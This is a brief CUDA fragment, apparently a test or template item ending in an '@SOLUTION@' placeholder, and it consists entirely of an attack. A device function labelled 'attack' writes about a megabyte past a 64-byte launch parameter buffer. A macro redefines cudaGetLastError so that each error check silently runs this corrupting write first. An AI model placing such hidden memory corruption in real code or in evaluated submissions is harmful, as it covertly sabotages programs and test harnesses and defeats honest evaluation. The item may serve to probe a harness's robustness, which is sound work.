// Writes on behind a buffer for the parameters of a launch.
__device__ __noinline__ void attack(float* data, const unsigned* start, const unsigned* end, int rows, float factor) {
  char* buffer = static_cast<char*>(cudaGetParameterBuffer(64, 64));
  for (int i = 0; i < 1 << 20; ++i) buffer[i] = 1;
}
#define cudaGetLastError() (attack(data, start, end, rows, factor), cudaGetLastError())
@SOLUTION@
